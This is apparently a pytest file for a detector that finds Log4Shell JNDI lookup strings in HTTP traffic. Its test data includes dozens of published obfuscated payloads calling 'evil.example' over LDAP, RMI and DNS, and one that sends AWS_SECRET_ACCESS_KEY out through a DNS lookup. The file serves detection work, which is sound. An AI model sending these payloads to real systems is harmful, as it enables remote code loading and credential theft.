"""Log4j lookups: the obfuscations that were published in December 2021 and after, and text that is none.

Sources of the forms: Apache's Log4j 2 manual (Lookups, Property Substitution); the collections of payloads by
Puliczek/CVE-2021-44228-PoC-log4j-bypass-words, woodpecker-appstore/log4j-payload-generator and back2root/log4shell-rex.
"""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.http.lookups import MAX_FOUND, MAX_LOOKUP, find_lookups

PLAIN = "jndi:ldap://evil.example/a"

VARIANTS: dict[str, str] = {
    "plain": "${jndi:ldap://evil.example/a}",
    "in a sentence": "Mozilla/5.0 ${jndi:ldap://evil.example/a} (X11)",
    "lower, each letter": "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:ldap}://evil.example/a}",
    "lower and upper": "${${lower:J}${upper:n}${lower:D}i:ldap://evil.example/a}",
    "lower of a word": "${${lower:jndi}:${lower:LDAP}://evil.example/a}",
    "nested lower": "${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}",
    "upper of a dotless i": "${jnd${upper:\u0131}:ldap://evil.example/a}",
    "empty default": "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "default of nothing": "${${:-j}ndi:ldap://evil.example/a}",
    "many colons": "${${:::::::::-j}ndi:ldap://evil.example/a}",
    "default, some letters": "${j${::-n}di:ldap://evil.example/a}",
    "default of env": "${${env:E_N:-j}ndi${env:E_N:-:}${env:E_N:-l}dap${env:E_N:-:}//evil.example/a}",
    "default of env, whole": "${${env:BARFOO:-jndi}:ldap://evil.example/a}",
    "default of sys": "${${sys:no.such:-j}ndi:ldap://evil.example/a}",
    "default of an unknown prefix": "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
    "default, dashes": "${${-:-j}ndi:ldap://evil.example/a}",
    "date with quotes": "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'ldap'}://evil.example/a}",
    "base64": "${${base64:am5kaTpsZGFw}://evil.example/a}",
    "base64, all": "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}",
    "nested defaults": "${${::-${::-j}}ndi:ldap://evil.example/a}",
    "case of the prefix": "${JnDi:ldap://evil.example/a}",
    "percent": "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "percent, lower case": "%24%7bjndi:ldap://evil.example/a%7d",
    "percent, twice": "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D",
    "percent, brace only": "$%7Bjndi:ldap://evil.example/a%7D",
    "percent, dollar only": "%24{jndi:ldap://evil.example/a}",
    "percent, each letter": "".join(f"%{ord(c):02x}" for c in "${jndi:ldap://evil.example/a}"),
    "percent, over nesting": "%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "JSON": "\\u0024\\u007bjndi:ldap://evil.example/a\\u007d",
    "JSON, letters": "${\\u006a\\u006edi:ldap://evil.example/a}",
    "HTML": "&#36;&#123;jndi:ldap://evil.example/a&#125;",
    "HTML, hexadecimal": "&#x24;&#x7b;jndi:ldap://evil.example/a&#x7D;",
    "cut off": "${jndi:ldap://evil.example/a",
    "cut off, nested": "${${lower:j}ndi:ldap://evil.example/a",
    "escaped dollar": "$${jndi:ldap://evil.example/a}",
    "made by another": "${::-$}{jndi:ldap://evil.example/a}",
}  # fmt: skip


@pytest.mark.parametrize("name", VARIANTS)
def test_published_obfuscations(name: str) -> None:
    (found,) = find_lookups(VARIANTS[name].encode())
    prefix, _, rest = found.partition(":")
    assert (prefix.lower(), rest.lower()) == ("jndi", "ldap://evil.example/a")


def test_other_protocols_and_what_they_carry_away() -> None:
    text = (
        b"${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example} and ${jndi:${lower:r}mi://x/${hostName}/${java:os}}"
    )
    assert find_lookups(text) == (
        "env:AWS_SECRET_ACCESS_KEY",
        "jndi:dns://{env:AWS_SECRET_ACCESS_KEY}.evil.example",
        "java:os",
        "jndi:rmi://x/{hostName}/{java:os}",
    )


@pytest.mark.parametrize(
    "text",
    [
        "",
        "$Version=1; $Path=/",
        "GS2.1.s1747$o1$g0$t1747$j60$l0$h0",
        "price: $5 {each}",
        "{{user}} ${}",
        "$1$salt$hash",
        "/MFQwUjBQME4wTDAJBgUrDgMCGgUABBT%2FcYm%2BQ%3D%3D",
        "100%25 of %24 5",
        "function(){return $(this)}",
        "$${a}",
        "${name}",
        "${user.home}/x",
        "${lower:ABC}",
        "a & b \\u0041",
    ],
)
def test_what_is_no_lookup(text: str) -> None:
    assert find_lookups(text.encode()) == ()


@given(st.binary(max_size=400))
def test_any_bytes(data: bytes) -> None:
    for each in find_lookups(data):
        assert each
        assert len(each) <= MAX_LOOKUP


@given(st.text(alphabet="${}:-jndi lower%24", max_size=300))
def test_any_lookup_like_text(text: str) -> None:
    assert len(find_lookups(text.encode())) <= MAX_FOUND


@pytest.mark.parametrize(
    "text",
    ["${" * 100_000, "${lower:" * 20 + "x" * 100_000 + "}" * 20, "${env:a}" * 20_000, "%25" * 60_000, "\\u00" * 50_000],
)
def test_hostile_text_costs_little(text: str) -> None:
    taken = []
    for _ in range(3):  # a busy machine gets several chances
        began = time.process_time()
        assert len(find_lookups(text.encode())) <= MAX_FOUND
        taken.append(time.process_time() - began)
    assert min(taken) < 0.2


def test_no_more_than_the_limits() -> None:
    many = b"".join(b"${env:N%d}" % n for n in range(40))
    assert len(find_lookups(many)) == MAX_FOUND
    (long,) = find_lookups(b"${jndi:ldap://" + b"a" * 4000 + b"}")
    assert len(long) == MAX_LOOKUP


@pytest.mark.parametrize("inner", ["base64:a", "base64:\u00e4", "base64:", "no:such", "what:", "\u00e4:b"])
def test_what_cannot_be_worked_out_stands_for_nothing(inner: str) -> None:
    assert find_lookups(f"${{jndi:ldap://x/${{{inner}}}y}}".encode()) == ("jndi:ldap://x/y",)


def test_what_is_put_together_again_and_again_has_a_limit() -> None:
    """Three rounds, of either kind."""
    text = percent = "${jndi:ldap://x/y}"
    found = []
    for _ in range(5):
        found.append((bool(find_lookups(text.encode())), bool(find_lookups(percent.encode()))))
        text = "${base64:" + base64.b64encode(text.encode()).decode() + "}"
        percent = percent.replace("%", "%25").replace("$", "%24")
    assert found == [(True, True), (True, True), (True, True), (False, True), (False, False)]


def test_how_deep_is_worked_out() -> None:
    """24 inside each other; what is deeper is nothing, and what comes behind it is read again."""

    def nested(depth: int) -> bytes:
        return b"${" + b"${lower:" * depth + b"J" + b"}" * depth + b"ndi:ldap://x/y}"

    assert find_lookups(nested(23)) == ("jndi:ldap://x/y",)
    assert not any(found.startswith("jndi") for found in find_lookups(nested(24)))
    for depth in (24, 25, 26, 40):
        assert find_lookups(b"${" * depth + b"x" + b"}" * depth + b"${env:USER}") == ("env:USER",)
    assert find_lookups(b"${" * 30 + b"jndi:ldap://x/y" + b"}" * 30)[0] == "jndi:ldap://x/y"


@pytest.mark.parametrize(
    ("escape", "stands_for"),
    [
        ("\\u0020", " "),
        ("\\u007e", "~"),
        ("\\u007f", "\\u007f"),
        ("\\u001f", "\\u001f"),
        ("&#32;", " "),
        ("&#126;", "~"),
        ("&#127;", "&#127;"),
        ("&#x7e;", "~"),
        ("&#31;", "&#31;"),
    ],
)
def test_escapes_are_undone_for_what_is_printable(escape: str, stands_for: str) -> None:
    assert find_lookups(b"${env:A%b}" % escape.encode()) == (f"env:A{stands_for}".strip(),)


@pytest.mark.parametrize(
    "text",
    [
        b'{"q":"${jndi:ldap://e.example/a","password":"SECRET"}',
        b"q=${jndi:ldap://e.example/a&password=SECRET",
        b"q=${jndi:ldap://e.example/a&password=SECRET&x=}",
        b"q=${jndi:ldap://e.example/a;sid=SECRET",
        b"<q a='${jndi:ldap://e.example/a'>SECRET</q>",
        b"${jndi:ldap://e.example/a SECRET",
    ],
)
def test_what_stands_beside_a_lookup_without_its_end_is_not_told(text: bytes) -> None:
    assert find_lookups(text) == ("jndi:ldap://e.example/a",)
